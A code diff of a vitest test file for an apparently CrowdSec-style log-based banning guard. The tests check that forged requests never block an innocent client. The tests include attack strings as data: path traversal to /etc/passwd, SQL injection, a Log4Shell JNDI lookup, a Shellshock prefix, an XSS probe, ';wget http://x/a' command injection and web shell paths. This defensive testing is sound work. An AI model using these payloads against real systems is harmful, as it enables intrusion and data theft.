@@ -1,7 +1,7 @@
 import { spawnSync } from 'node:child_process';
 import { mkdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { array, assert, asyncProperty, constantFrom, record, string } from 'fast-check';
+import { array, assert, asyncProperty, constantFrom, record } from 'fast-check';
 import { afterEach, expect, test } from 'vitest';
 import type { Bouncer } from '../bouncers/bouncer.ts';
 import { defaultPolicy } from '../decisions/policy.ts';
@@ -9,8 +9,8 @@ import type { Incident } from '../incidents/incident.ts';
 import { formats } from '../logs/formats.ts';
 import { pack } from '../scenarios/pack/pack.ts';
 import { atCrowdsec } from '../test/crowdsec-cases.ts';
-import { names, nobodySpared, noon, temporary } from '../test/desk.ts';
-import { apacheLine, nginxErrorLine, nginxLine, sshdLine } from '../test/server-lines.ts';
+import { names, nobodySpared, noon, ranges, temporary } from '../test/desk.ts';
+import { forgeries, proxy, servers } from '../test/server-lines.ts';
 import { ordinaryTraffic } from '../test/traffic.ts';
 import { Guard, type GuardOptions } from './guard.ts';
 
@@ -45,9 +45,9 @@ function start(given: Partial<GuardOptions> = {}) {
     names: names(),
     ...given,
   });
-  const feed = async (lines: readonly string[], format = 'nginx') => {
+  const feed = async (lines: readonly string[], format = 'nginx', context = atCrowdsec) => {
     for (const line of lines) {
-      const event = formats[format]?.(line, atCrowdsec);
+      const event = formats[format]?.(line, context);
       if (event) guard.pour(event);
     }
     await guard.settled();
@@ -144,50 +144,61 @@ test('a clock that jumps ahead and back bans nobody', async () => {
   expect(guard.journal.all()).toEqual([]);
 });
 
-const hostile = array(
-  constantFrom(
-    '198.51.100.77',
-    ' - - ',
-    ' [10/Oct/2025:13:55:36 +0000] ',
-    ', client: 198.51.100.77, server: a',
-    ', request: "GET / HTTP/1.1"',
-    '" 404 1 "-" "',
-    ' from 198.51.100.77 port 22 ssh2',
-    'GET /../../../etc/passwd HTTP/1.1',
-    "' or '1'='1",
-    '\x24{jndi:ldap://x}',
-    '\n',
-    '[client 198.51.100.77]',
-  ),
-  { maxLength: 8 },
-).map((parts) => parts.join(''));
-const anything = record({
-  request: hostile,
-  agent: hostile,
-  referrer: hostile,
-  user: hostile,
-  noise: string({ unit: 'binary' }),
-});
+const innocent = '198.51.100.77';
+const behindProxy = { ...atCrowdsec, trusted: ranges(proxy) };
 
-test('attack: one bad request, repeated at will, never blocks an innocent client', async () => {
+test.each(servers.map((server) => [server.name, server] as const))(
+  'attack: one bad request to %s, repeated at will, never blocks an innocent client',
+  async (_, { format, write }) => {
+    await assert(
+      asyncProperty(forgeries(write, innocent), async (sent) => {
+        const { guard, feed } = start({ journalPath: join(temporary(), 'd.log') });
+        for (let time = 0; time < 25; time++)
+          await feed([write(attacker, { ...sent, request: `${sent.request}${time}` })], format, behindProxy);
+        expect(guard.journal.all().filter(({ value }) => value !== attacker)).toEqual([]);
+        guard.journal.close();
+      }),
+      { numRuns: 8 },
+    );
+  },
+  60_000,
+);
+
+test('attack: one bad request that an innocent client was made to send blocks it nowhere', async () => {
+  const text = array(constantFrom(...exploits), { maxLength: 3 }).map((parts) => parts.join(''));
   await assert(
-    asyncProperty(anything, async ({ noise, ...sent }) => {
-      const { guard, feed } = start({ journalPath: join(temporary(), 'd.log') });
-      const bad = { ...sent, request: sent.request + noise };
-      for (let time = 0; time < 25; time++) {
-        await feed([
-          nginxLine(attacker, { ...bad, request: `${bad.request}${time}` }),
-          nginxErrorLine(attacker, bad),
-        ]);
-        await feed([apacheLine(attacker, bad)], 'apache');
-        await feed([sshdLine(attacker, bad.user, time)], 'sshd');
-      }
-      expect(guard.journal.all().filter(({ value }) => value !== attacker)).toEqual([]);
-      guard.journal.close();
-    }),
-    { numRuns: 60 },
+    asyncProperty(
+      constantFrom(...servers),
+      record({ request: text, agent: text, referrer: text, user: text }),
+      async ({ format, write }, sent) => {
+        const { guard, feed } = start({ journalPath: join(temporary(), 'd.log') });
+        await feed([write(innocent, sent)], format, behindProxy);
+        expect(guard.journal.all()).toEqual([]);
+        guard.journal.close();
+      },
+    ),
+    { numRuns: 200 },
   );
-});
+}, 60_000);
+
+/** What a page of an attacker could have a visitor's browser ask for. */
+const exploits = [
+  ...[
+    'GET /../../../etc/passwd HTTP/1.1',
+    "?id=1' or '1'='1",
+    '\x24{jndi:ldap://x}',
+    '/.env',
+    '/wp-login.php',
+  ],
+  ...[
+    '?q=<script>alert(1)</script>',
+    ';wget http://x/a',
+    '/c99.php',
+    '/eval-stdin.php',
+    'sqlmap/1.7',
+    '() { :; };',
+  ],
+];
 
 const small = () => {
   const directory = join(temporary(), 'full');
